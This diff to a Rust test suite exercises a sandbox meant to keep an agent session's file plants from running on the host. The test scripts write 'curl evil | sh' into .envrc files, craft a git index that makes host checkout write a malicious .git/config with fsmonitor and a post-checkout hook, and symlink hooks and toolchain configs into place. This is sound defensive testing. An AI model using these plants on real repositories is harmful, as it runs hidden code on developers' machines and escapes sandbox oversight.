@@ -372,12 +372,14 @@ fn quarantine_cannot_be_aborted_across_filesystems_or_by_odd_trees() {
     // An unreadable directory, a path longer than PATH_MAX, and a child status to keep.
     let script = "cd $AIRLOCK_REPO; mkdir -p a/.vscode/in; echo '{}' > a/.vscode/in/x.json; \
         chmod 000 a/.vscode/in a/.vscode; \
+        mkdir -p b/c; echo 'curl evil | sh' > b/c/.envrc; chmod 600 b; \
         d=deep; mkdir $d; cd $d; i=0; while [ $i -lt 70 ]; do \
           n=dddddddddddddddddddddddddddddddddddddddddddddddddddddddddddddd$i; mkdir $n; cd $n; i=$((i+1)); done; \
         echo 'curl evil | sh' > .envrc; exit 7";
     let run = sb.exec(&["sh", "-c", script]).run().expect_code(7);
     let err = run.stderr();
     assert!(!sb.repo.join("a/.vscode").exists(), "{err}");
+    assert!(!sb.repo.join("b/c/.envrc").exists(), "an unsearchable directory hid it: {err}");
     assert!(!err.contains("WARNING"), "{err}");
     // The deep .envrc is gone too (walk by fds, items under short names).
     let left =
@@ -388,7 +390,7 @@ fn quarantine_cannot_be_aborted_across_filesystems_or_by_odd_trees() {
     let manifest: serde_json::Value =
         serde_json::from_slice(&std::fs::read(session.join("manifest.json")).unwrap()).unwrap();
     let items = manifest["items"].as_array().unwrap();
-    assert_eq!(items.len(), 2, "{manifest:#}");
+    assert_eq!(items.len(), 3, "{manifest:#}");
     assert!(items.iter().all(|i| i["how"] == "copied"), "{manifest:#}");
 }
 
@@ -629,4 +631,244 @@ fn content_planted_under_an_innocent_name_and_renamed_in_later_is_still_judged()
     host_git(&sb.repo, sb.home(), &["status", "--short"]);
     host_git(&sb.repo, sb.home(), &["checkout", "-q", "-b", "after"]);
     assert!(!marker.exists(), "host git ran renamed-in code:\n{}", two.stderr());
+}
+
+/// Stages `xgit/config` (with core.fsmonitor) and an executable `xgit/hooks/post-checkout`, then
+/// renames those index entries to `.git/…` (same length) and fixes the index checksum: git
+/// never re-checks index paths when it reads them, so `git checkout .` writes them.
+fn craft_index_script(hook: &str) -> String {
+    format!(
+        "set -e; mkdir -p xgit/hooks; \
+         printf '[core]\\n\\trepositoryformatversion = 0\\n\\tbare = false\\n\\tfsmonitor = \"{hook}\"\\n' > xgit/config; \
+         printf '#!/bin/sh\\n{hook}\\n' > xgit/hooks/post-checkout; chmod +x xgit/hooks/post-checkout; \
+         git add xgit; rm -rf xgit; \
+         python3 -c \"import hashlib; d=open('.git/index','rb').read()[:-20].replace(b'xgit/',b'.git/'); \
+open('.git/index','wb').write(d+hashlib.sha1(d).digest())\"; echo crafted"
+    )
+}
+
+#[test]
+fn a_crafted_index_cannot_make_a_host_checkout_write_into_git() {
+    if !prereqs(&["git", "python3"]) {
+        return;
+    }
+    let sb = git_repo("index");
+    let marker = sb.world.tmp.path().join("INDEX-PLANT-RAN");
+    let hook = toucher(&marker);
+    // Positive control: the crafted index, made by the host in a scratch repo, does write
+    // `.git/config` on `git checkout .`, and the next `git status` runs its fsmonitor.
+    let control = sb.world.tmp.path().join("control");
+    std::fs::create_dir_all(&control).unwrap();
+    assert!(git(&control, &["init", "-q"]).status.success());
+    let out = Command::new("sh")
+        .current_dir(&control)
+        .args(["-c", &craft_index_script(&hook)])
+        .output()
+        .unwrap();
+    assert!(
+        String::from_utf8_lossy(&out.stdout).contains("crafted"),
+        "{}",
+        String::from_utf8_lossy(&out.stderr)
+    );
+    host_git(&control, sb.home(), &["checkout", "."]);
+    host_git(&control, sb.home(), &["status", "--short"]);
+    assert!(marker.exists(), "the control attack did not run; the test would prove nothing");
+    std::fs::remove_file(&marker).unwrap();
+    // The session crafts the same index in the repo.
+    let run =
+        sb.exec(&["sh", "-c", &format!("cd $AIRLOCK_REPO; {}", craft_index_script(&hook))]).run();
+    assert_eq!(run.code(), 0, "{}\n{}", run.stdout(), run.stderr());
+    assert!(run.stdout().contains("crafted"));
+    assert!(run.stderr().contains("git reset"), "{}", run.stderr());
+    // The developer throws the agent's changes away the usual way.
+    host_git(&sb.repo, sb.home(), &["reset", "-q"]);
+    host_git(&sb.repo, sb.home(), &["checkout", "."]);
+    host_git(&sb.repo, sb.home(), &["status", "--short"]);
+    host_git(&sb.repo, sb.home(), &["checkout", "-q", "-b", "after"]);
+    assert!(!marker.exists(), "host git wrote and ran the index's plant:\n{}", run.stderr());
+    let config = std::fs::read_to_string(sb.repo.join(".git/config")).unwrap();
+    assert!(!config.contains("fsmonitor"), "{config}");
+}
+
+#[test]
+fn symlinks_at_names_host_tools_read_are_taken() {
+    if !prereqs(&["git"]) {
+        return;
+    }
+    let sb = git_repo("links");
+    let marker = sb.world.tmp.path().join("LINKED-PLANT-RAN");
+    let hook = toucher(&marker);
+    let script = format!(
+        "set -e; cd $AIRLOCK_REPO; printf '#!/bin/sh\\n{hook}\\n' > evil.sh; chmod +x evil.sh; \
+         printf '[core]\\n\\tbare = false\\n\\tfsmonitor = \"{hook}\"\\n' > evilcfg; \
+         git init -q sub; ln -s ../../../evil.sh sub/.git/hooks/post-checkout; \
+         rm sub/.git/config; ln -s ../../evilcfg sub/.git/config; \
+         printf '[toolchain]\\npath = \"/nonexistent\"\\n' > tc.toml; ln -s tc.toml rust-toolchain.toml; \
+         mkdir -p web stash; echo 'curl evil | sh' > envrc.txt; ln -s ../envrc.txt web/.envrc; \
+         printf '[build]\\nrustc-wrapper = \"/tmp/w\"\\n' > stash/config.toml; ln -s ../stash web/.cargo; echo linked"
+    );
+    let run = sb.exec(&["sh", "-c", &script]).run();
+    assert_eq!(run.code(), 0, "{}\n{}", run.stdout(), run.stderr());
+    for rel in [
+        "sub/.git/hooks/post-checkout",
+        "sub/.git/config",
+        "rust-toolchain.toml",
+        "web/.envrc",
+        "web/.cargo",
+    ] {
+        assert!(
+            std::fs::symlink_metadata(sb.repo.join(rel)).is_err(),
+            "{rel} stayed:\n{}",
+            run.stderr()
+        );
+    }
+    host_git(&sb.repo.join("sub"), sb.home(), &["status", "--short"]);
+    host_git(&sb.repo.join("sub"), sb.home(), &["checkout", "-q", "-b", "x"]);
+    assert!(!marker.exists(), "{}", run.stderr());
+}
+
+#[test]
+fn a_submodule_named_with_a_slash_is_protected_like_any_other() {
+    if !prereqs(&["git"]) {
+        return;
+    }
+    let sb = git_repo("slash");
+    let lib = sb.world.tmp.path().join("lib-origin");
+    std::fs::create_dir_all(&lib).unwrap();
+    assert!(git(&lib, &["init", "-q"]).status.success());
+    assert!(git(&lib, &["commit", "-q", "--allow-empty", "-m", "lib"]).status.success());
+    let add = git(
+        &sb.repo,
+        &[
+            "-c",
+            "protocol.file.allow=always",
+            "submodule",
+            "add",
+            "-q",
+            lib.to_str().unwrap(),
+            "libs/foo",
+        ],
+    );
+    assert!(add.status.success(), "{}", String::from_utf8_lossy(&add.stderr));
+    assert!(git(&sb.repo, &["commit", "-qam", "sub"]).status.success());
+    assert!(sb.repo.join(".git/modules/libs/foo/config").is_file());
+    let marker = sb.world.tmp.path().join("SUBMODULE-PLANT-RAN");
+    let hook = toucher(&marker);
+    let script = format!(
+        "cd $AIRLOCK_REPO; r=''; \
+         printf '\\tfsmonitor = \"{hook}\"\\n' >> .git/modules/libs/foo/config 2>/dev/null && r=\"$r config\"; \
+         printf '#!/bin/sh\\n{hook}\\n' > .git/modules/libs/foo/hooks/post-checkout 2>/dev/null && r=\"$r hook\"; \
+         mv .git/modules/libs .git/modules/away 2>/dev/null && r=\"$r mv\"; echo result:$r"
+    );
+    let out = sb.exec(&["sh", "-c", &script]).run().expect_code(0).stdout();
+    assert!(out.contains("result:\n"), "the submodule's git dir was writable: {out}");
+    host_git(&sb.repo, sb.home(), &["status", "--short"]);
+    assert!(!marker.exists());
+}
+
+#[test]
+fn hooks_the_developer_keeps_in_the_worktree_are_read_only() {
+    if !prereqs(&["git"]) {
+        return;
+    }
+    let sb = git_repo("hookspath");
+    let marker = sb.world.tmp.path().join("WORKTREE-HOOK-RAN");
+    sb.world.write_executable(sb.repo.join(".githooks/pre-commit"), "#!/bin/sh\nexit 0\n");
+    sb.world.write_executable(sb.repo.join("scripts/post-checkout"), "#!/bin/sh\nexit 0\n");
+    assert!(git(&sb.repo, &["config", "core.hooksPath", ".githooks"]).status.success());
+    std::os::unix::fs::symlink(
+        "../../scripts/post-checkout",
+        sb.repo.join(".git/hooks/post-checkout"),
+    )
+    .unwrap();
+    let script = format!(
+        "cd $AIRLOCK_REPO; r=''; \
+         printf '#!/bin/sh\\n{t}\\n' > .githooks/pre-commit 2>/dev/null && r=\"$r hookspath\"; \
+         printf '#!/bin/sh\\n{t}\\n' > scripts/post-checkout 2>/dev/null && r=\"$r linked\"; \
+         mv .githooks .gh 2>/dev/null && r=\"$r mv\"; echo result:$r",
+        t = toucher(&marker)
+    );
+    let out = sb.exec(&["sh", "-c", &script]).run().expect_code(0).stdout();
+    assert!(out.contains("result:\n"), "a worktree hook was writable: {out}");
+}
+
+#[test]
+fn a_repo_top_level_shaped_like_a_git_dir_is_judged_as_one() {
+    if !prereqs(&["git"]) {
+        return;
+    }
+    let sb = Sandbox::new("toplevel");
+    std::fs::remove_dir_all(sb.repo.join(".git")).unwrap();
+    let marker = sb.world.tmp.path().join("BARE-TOP-RAN");
+    let hook = toucher(&marker);
+    let plant = format!(
+        "mkdir -p objects refs/heads; echo 'ref: refs/heads/main' > HEAD; \
+         printf '[core]\\n\\trepositoryformatversion = 0\\n\\tbare = false\\n\\tworktree = .\\n\\tfsmonitor = \"{hook}\"\\n' > config"
+    );
+    // Positive control: git uses such a directory as a repository and runs the fsmonitor.
+    let control = sb.world.tmp.path().join("control");
+    std::fs::create_dir_all(&control).unwrap();
+    assert!(
+        Command::new("sh").current_dir(&control).args(["-c", &plant]).status().unwrap().success()
+    );
+    host_git(&control, sb.home(), &["status", "--short"]);
+    assert!(marker.exists(), "the control attack did not run; the test would prove nothing");
+    std::fs::remove_file(&marker).unwrap();
+    let run = sb.exec(&["sh", "-c", &format!("cd $AIRLOCK_REPO; {plant}")]).run();
+    assert_eq!(run.code(), 0, "{}", run.stderr());
+    host_git(&sb.repo, sb.home(), &["status", "--short"]);
+    assert!(!marker.exists(), "{}", run.stderr());
+}
+
+#[test]
+fn a_whole_second_filesystem_still_sees_the_first_second_of_a_session() {
+    // Needs a filesystem that stores whole seconds: a small ext4 with 128-byte inodes on a loop
+    // device, which only root can mount.
+    if !nix::unistd::getuid().is_root() {
+        eprintln!("not root: the whole-second filesystem case runs in the root pass");
+        return;
+    }
+    let mkfs =
+        ["/usr/sbin/mkfs.ext4", "/sbin/mkfs.ext4"].into_iter().map(Path::new).find(|p| p.exists());
+    let Some(mkfs) = mkfs else {
+        assert!(!in_ci(), "mkfs.ext4 (e2fsprogs) missing in CI");
+        eprintln!("SKIP: no mkfs.ext4");
+        return;
+    };
+    if !prereqs(&["mount", "umount"]) {
+        return;
+    }
+    let world = World::new();
+    let img = world.tmp.path().join("coarse.img");
+    let mnt = world.tmp.path().join("mnt");
+    std::fs::create_dir_all(&mnt).unwrap();
+    let f = std::fs::File::create(&img).unwrap();
+    f.set_len(16 << 20).unwrap();
+    drop(f);
+    let ok = |c: &mut Command| c.output().map(|o| o.status.success()).unwrap_or(false);
+    assert!(ok(Command::new(mkfs).args(["-q", "-F", "-I", "128"]).arg(&img)));
+    if !ok(Command::new("mount").args(["-o", "loop"]).arg(&img).arg(&mnt)) {
+        assert!(!in_ci(), "cannot loop-mount a test filesystem in CI");
+        eprintln!("SKIP: no loop device");
+        return;
+    }
+    struct Unmount(PathBuf);
+    impl Drop for Unmount {
+        fn drop(&mut self) {
+            let _ = Command::new("umount").arg(&self.0).status();
+        }
+    }
+    let _guard = Unmount(mnt.clone());
+    let repo = mnt.join("coarse");
+    std::fs::create_dir_all(repo.join(".git")).unwrap();
+    let sb = Sandbox::with(world, repo);
+    let run = sb
+        .exec(&[
+            "sh",
+            "-c",
+            "cd $AIRLOCK_REPO; mkdir x; echo 'curl evil | sh' > x/.envrc; echo done",
+        ])
+        .run()
+        .expect_code(0);
+    assert!(!sb.repo.join("x/.envrc").exists(), "{}", run.stderr());
 }
